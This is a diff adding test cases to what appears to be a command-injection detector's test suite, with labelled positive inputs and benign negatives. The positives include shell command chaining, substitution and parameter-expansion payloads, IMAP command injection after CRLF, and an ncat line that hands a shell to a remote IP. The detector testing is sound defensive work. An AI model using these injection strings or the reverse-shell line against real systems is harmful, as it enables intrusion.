@@ -55,6 +55,36 @@ const positives: Array<[string, string]> = [
   ['<?php passthru($q); ?>', 'cmdi.exec-call'],
   ['subprocess.check_output("w")', 'cmdi.exec-call'],
   ["z;popen( 'x')", 'cmdi.exec-call'],
+  // any name after ; | or a newline becomes a command once an option follows
+  ['q;frobnicate -v', 'cmdi.chained-command'],
+  ['z|mytool --all', 'cmdi.chained-command'],
+  ['x; git-lfs -l', 'cmdi.chained-command'],
+  ['k\nmy-tool -q', 'cmdi.chained-command'],
+  ['`frob -x`', 'cmdi.command-substitution'],
+  // parameter expansion operators, arithmetic and empty substitution
+  ['${HOME%/*}', 'cmdi.command-substitution'],
+  ['${PATH:0:1}', 'cmdi.command-substitution'],
+  ['${!ref}', 'cmdi.command-substitution'],
+  ['${v/a/b}', 'cmdi.command-substitution'],
+  ['$((1+2))', 'cmdi.command-substitution'],
+  ['x$()y', 'cmdi.command-substitution'],
+  // a shell handed over in an argv list or as an option value
+  ['run zsh,-c,w', 'cmdi.shell-path'],
+  ['ncat 1.2.3.4 80 -e zsh', 'cmdi.shell-path'],
+  // a weak wrapper hands over to the weak command after it
+  ['time free', 'cmdi.command-with-args'],
+  ['time sort -r', 'cmdi.command-with-args'],
+  ["'time' free", 'cmdi.command-with-args'],
+  // '/' inside a bracket class
+  ['ls /[h/]ome/x', 'cmdi.glob-path'],
+  // a quoted command as a brace element
+  ["{$'id',-a}", 'cmdi.command-substitution'],
+  ['{,"netstat",-an}', 'cmdi.command-substitution'],
+  // IMAP verbs after a tag
+  ['x\r\nt1 CLOSE', 'cmdi.mail-command'],
+  ['x\r\nk9 copy 1:2 Box', 'cmdi.mail-command'],
+  // a quoted alias keeps the alias grammar
+  ['<b t="alias k=ls">', 'cmdi.alias-trap'],
 ];
 
 const negatives: string[] = [
@@ -88,6 +118,15 @@ const negatives: string[] = [
   'the system (good)',
   'solar system(s) list',
   'popen(fd) returns',
+  'salt; pepper - to taste',
+  'see note; item -3',
+  'a;b -c',
+  'bread & butter -ish',
+  'cost ${name} and ${a.b}',
+  'time who knows',
+  'sort, -c, and more',
+  '/blog/[slug]/page',
+  'status\nclose the door',
 ];
 
 describe('cmdi shell grammar', () => {
